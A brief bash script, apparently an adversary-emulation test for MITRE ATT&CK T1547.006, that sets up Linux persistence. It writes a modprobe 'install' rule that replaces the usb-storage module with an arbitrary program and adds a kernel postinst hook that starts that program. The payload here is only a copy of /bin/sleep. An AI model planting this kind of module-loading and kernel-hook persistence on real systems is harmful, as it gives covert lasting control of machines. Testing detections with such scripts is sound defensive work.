#!/bin/bash
# T1547.006: A module that is asked for starts a program in its place.
mkdir -p /etc/modprobe.d; printf 'install usb-storage /usr/local/sbin/usbd\n' >/etc/modprobe.d/usb.conf; cp /bin/sleep /usr/local/sbin/usbd; printf '#!/bin/sh\n/usr/local/sbin/usbd 9 &\n' >/etc/kernel/postinst.d/zz-usb 2>/dev/null || { mkdir -p /etc/kernel/postinst.d; printf '#!/bin/sh\n/usr/local/sbin/usbd 9 &\n' >/etc/kernel/postinst.d/zz-usb; }; chmod +x /etc/kernel/postinst.d/zz-usb
